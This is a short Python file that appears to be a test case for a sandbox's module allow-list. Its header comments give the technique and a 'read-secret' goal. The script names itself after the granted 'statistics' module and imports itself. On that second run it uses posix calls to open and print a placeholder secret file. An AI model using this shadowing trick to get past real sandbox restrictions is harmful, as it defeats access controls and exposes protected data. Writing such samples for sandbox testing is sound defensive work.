# technique: the program is named like a granted module and imports it: its own text runs again, as that module
# goal: read-secret
# source: sys.path[0]
# run-as: statistics.py
if __name__ == '__main__':
    import statistics
else:
    import posix
    print(posix.read(posix.open('@SECRET@', 0), 200))
